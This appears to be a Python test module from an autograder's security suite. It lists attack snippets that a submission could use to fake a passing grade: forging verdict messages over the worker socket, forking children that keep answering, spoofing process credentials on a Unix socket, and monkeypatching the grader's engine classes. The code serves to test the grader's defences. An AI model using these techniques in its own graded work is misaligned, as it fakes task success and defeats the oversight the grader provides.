"""Promise: who speaks for the worker gains nothing by it, and hurts nobody else."""

from .attack import Attack, added, answer
from .speaking import SPEAK

ATTACKS: tuple[Attack, ...] = (
    answer(
        "forges a passing verdict over its own socket",
        SPEAK
        + """
def double(x):
    say(wire.Reply([wire.Plain(42)], []))
    say(wire.CellRan("", []))
    say(wire.Status(0))
    os._exit(0)
""",
        # what it returns is its own to choose: an honest grader cannot tell a function that says 42 from this one
        earns=14.0,
        says="target",
        quick=True,
    ),
    added(
        "answers for the later cells from a child that holds the line's socket",
        SPEAK
        + """
import time
if os.fork() == 0:
    if os.fork() == 0:
        for _ in range(200):
            say(wire.CellRan("", []))
            say(wire.Reply([wire.Plain(42)], []))
            time.sleep(0.01)
    os._exit(0)
""",
        says="total",
        tampers=True,
    ),
    added(
        "says hello in the name of another process",
        SPEAK
        + """
import autograder.engine.worker.main_loop as main_loop, array, struct
VICTIM = $VICTIM

def fork(self, seed, serves, fd):
    with socket.socket(fileno=fd) as sock:
        hello = wire._encode(wire.Hello())
        data = struct.pack("<IQ", len(hello), 0) + hello
        who = struct.pack("3i", VICTIM, os.getuid(), os.getgid())
        try:
            sock.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, who)])
        except OSError:
            pass

main_loop.MainLoop._fork = fork
""",
        says="total",
        tampers=True,
    ),
    added(
        "says hello from a process that has ended",
        SPEAK
        + """
import autograder.engine.worker.main_loop as main_loop, struct, ctypes

def fork(self, seed, serves, fd):
    child = os.fork()
    if child == 0:
        hello = wire._encode(wire.Hello())
        os.write(fd, struct.pack("<IQ", len(hello), 0) + hello)
        os._exit(0)
    os.waitpid(child, 0)
    os.close(fd)

main_loop.MainLoop._fork = fork
""",
        says="total",
        tampers=True,
    ),
    added(
        "replaces the worker's own parts that answer",
        """
        import sys
        for name, module in list(sys.modules.items()):
            if name.startswith("autograder.engine"):
                for attribute, value in list(vars(module).items()):
                    parts = ("Service", "Encoder", "Decoder", "MainLoop", "GradedShell")
                    if isinstance(value, type) and attribute in parts:
                        for method in list(vars(value)):
                            if callable(getattr(value, method)) and not method.startswith("__"):
                                setattr(value, method, lambda *a, **k: 42)
        """,
        says="total",
        tampers=True,
    ),
)
